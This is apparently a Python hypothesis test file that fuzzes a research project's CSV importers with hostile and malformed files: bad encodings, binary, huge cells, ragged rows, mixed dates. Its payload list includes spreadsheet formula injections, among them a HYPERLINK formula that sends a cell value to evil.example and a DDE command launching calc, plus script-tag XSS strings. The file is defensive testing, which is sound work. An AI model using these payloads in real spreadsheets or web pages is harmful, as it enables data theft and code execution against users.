"""Random and hostile files fed to every importer (hypothesis): wrong encodings, binary,
huge cells, formula payloads, script tags, mixed date formats, ragged rows. Each file is
imported whole or rejected with a ResearchError — never a traceback — and a rejected
file leaves every table as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from research.base.errors import ResearchError
from research.findings.past_studies import import_findings
from research.ledger.load import import_file

ACTOR = "tester"

HEADERS = {
    "customers": ["customer_id", "name", "phone", "email", "region", "客户名称"],
    "transactions": ["customer_id", "date", "amount", "product_line", "交易日期", "金额"],
    "wallet": ["customer_id", "period", "estimated_spend", "period_start", "period_end"],
    "findings": ["customer_id", "interview_date", "primary_cause", "competitor", "quote"],
}
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "2024-03-01",
    "03/01/2024",
    "2024年3月1日",
    "1 Mar 2024",
    "20240301",
    "45352",
    "1,234.50",
    "¥1,234",
    "-0",
    "NaN",
    "inf",
    "",
    " ",
    "\t",
    '"quoted, with comma"',
    "line\nbreak",
    "\x00\x07\x1b",
    "Ω≈ç√∫˜µ≤≥÷",
    "王伟",
    "😀" * 10,
]
cells = st.one_of(
    st.sampled_from(HOSTILE_CELLS),
    st.text(max_size=30),
    st.integers(-(10**20), 10**20).map(str),
    st.just("x" * 50_000),  # a huge cell
)
ENCODINGS = ["utf-8", "utf-8-sig", "gbk", "latin-1", "utf-16", "cp1252", "shift_jis"]


@st.composite
def hostile_files(draw):
    kind = draw(st.sampled_from(sorted(HEADERS)))
    name = draw(st.sampled_from(["f.csv", "f.txt", "f.xlsx", "f.CSV", "f"]))
    if draw(st.booleans()) and draw(st.booleans()):  # a quarter: random bytes
        return kind, name, draw(st.binary(max_size=2_000))
    header = draw(
        st.lists(
            st.one_of(st.sampled_from(HEADERS[kind]), cells), min_size=1, max_size=7, unique=True
        )
    )
    rows = draw(st.lists(st.lists(cells, max_size=9), max_size=12))  # ragged
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(ENCODINGS))
    data = out.getvalue().encode(encoding, errors="replace")
    if draw(st.integers(0, 9)) == 0:  # now and then a cut in the middle of a character
        data = data[: max(1, len(data) - 1)]
    return kind, name, data


DATES = [
    "2024-03-01",
    "2024/3/1",
    "03/01/2024",
    "1.3.2024",
    "2024年3月1日",
    "20240301",
    "Mar 1 2024",
]
AMOUNTS = ["1234.5", "1,234.50", "¥1,234", "-12", "0", "1e3", "(12.00)", "12 元"]


@st.composite
def nearly_valid_files(draw):
    """The right columns, and hostile values in them: formulas, scripts, mixed dates and
    amounts, huge cells, rows a cell short."""
    kind = draw(st.sampled_from(["customers", "transactions", "findings"]))
    ids = st.from_regex(r"[A-Z][0-9]{1,4}", fullmatch=True)
    if kind == "customers":
        header = ["customer_id", "name", "phone", "email", "region"]
        row = st.tuples(ids, cells, cells, cells, cells)
    elif kind == "transactions":
        header = ["customer_id", "date", "amount", "product_line"]
        row = st.tuples(ids, st.sampled_from(DATES), st.sampled_from(AMOUNTS), cells)
    else:
        header = ["customer_id", "interview_date", "primary_cause", "quote"]
        row = st.tuples(
            ids, st.sampled_from(DATES), st.sampled_from(["price_value", "人员态度", ""]), cells
        )
    rows = [list(r) for r in draw(st.lists(row, min_size=1, max_size=8))]
    if draw(st.booleans()):
        rows[-1] = rows[-1][:-1]  # ragged: one cell short
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "utf-16"]))
    return kind, "f.csv", out.getvalue().encode(encoding, errors="replace")


def everything(store) -> dict[str, int]:
    with store.cursor() as cur:
        tables = [
            r[0]
            for r in cur.execute(
                "SELECT table_name FROM information_schema.tables WHERE table_schema = 'main'"
                " AND table_type = 'BASE TABLE'"
            ).fetchall()
        ]
        return {t: cur.execute(f"SELECT count(*) FROM {t}").fetchall()[0][0] for t in tables}


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.one_of(hostile_files(), nearly_valid_files()))
def test_a_hostile_file_is_imported_whole_or_rejected_cleanly(store, study, file):
    kind, name, data = file
    before = everything(store)
    try:
        if kind == "findings":
            result = import_findings(store, study, data, actor=ACTOR, file_name=name)
        else:
            result = import_file(store, kind, data, actor=ACTOR, file_name=name)
    except ResearchError as e:
        assert e.render()  # a message a person can read
        assert everything(store) == before  # nothing of it written
        return
    after = everything(store)
    assert after["imports"] == before["imports"] + 1
    if kind != "findings":
        assert result.rows_new + result.rows_updated <= result.rows_in_file


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe\x00\x00garbage",
        b"PK\x03\x04not really a workbook",
        "customer_id,name\nA,=1+1\nB,<script>x</script>\n".encode("utf-16"),
        b"customer_id,name\n" + b"A," + b"x" * 2_000_000 + b"\n",
    ],
)
def test_known_nasty_customer_files(store, data):
    before = everything(store)
    try:
        import_file(store, "customers", data, actor=ACTOR, file_name="c.csv")
    except ResearchError:
        assert everything(store) == before
    else:
        assert everything(store)["imports"] == before["imports"] + 1


def test_formulas_and_scripts_are_stored_as_written(store):
    data = 'customer_id,name,email\nA,"=HYPERLINK(""http://x"")",<script>alert(1)</script>\n'
    import_file(store, "customers", data.encode(), actor=ACTOR, file_name="c.csv")
    with store.cursor() as cur:
        row = cur.execute("SELECT name, email FROM customers WHERE customer_id = 'A'").fetchall()
    assert row == [('=HYPERLINK("http://x")', "<script>alert(1)</script>")]
